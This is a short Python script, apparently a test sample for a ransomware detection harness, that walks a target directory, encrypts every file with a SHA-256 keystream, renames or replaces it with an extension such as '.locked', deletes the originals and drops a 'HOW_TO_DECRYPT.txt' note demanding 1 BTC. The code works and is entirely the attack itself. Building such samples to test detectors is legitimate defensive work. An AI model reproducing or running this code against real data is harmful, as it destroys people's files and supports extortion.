#!/usr/bin/python3
# family: ransomware
# needs: docs
# actors: python3.*
"""Ransomware-like: walks the document tree, encrypts every file with a keystream, writes NAME.EXT,
removes or overwrites the original, drops a ransom note per directory."""
import hashlib, os, random
rng = random.Random(int(os.environ["PG_SEED"]))
key = rng.randbytes(32)
ext = rng.choice([".locked", ".enc", ".crypt", ".%05x" % rng.randint(0, 0xfffff)])
inplace = rng.random() < 0.4
def crypt(data, nonce):
    out, counter = bytearray(), 0
    while len(out) < len(data):
        out += hashlib.sha256(key + nonce + counter.to_bytes(8, "little")).digest(); counter += 1
    return bytes(a ^ b for a, b in zip(data, out))
for root, dirs, files in os.walk(os.environ["PG_DATA"]):
    for name in files:
        path = os.path.join(root, name)
        with open(path, "rb") as f:
            data = f.read()
        enc = crypt(data, name.encode())
        if inplace:
            os.rename(path, path + ext)
            with open(path + ext, "r+b") as f:
                f.write(enc)
        else:
            with open(path + ext, "wb") as f:
                f.write(enc)
            os.unlink(path)
    with open(os.path.join(root, "HOW_TO_DECRYPT.txt"), "w") as f:
        f.write("Your files are encrypted. Send 1 BTC.\n")
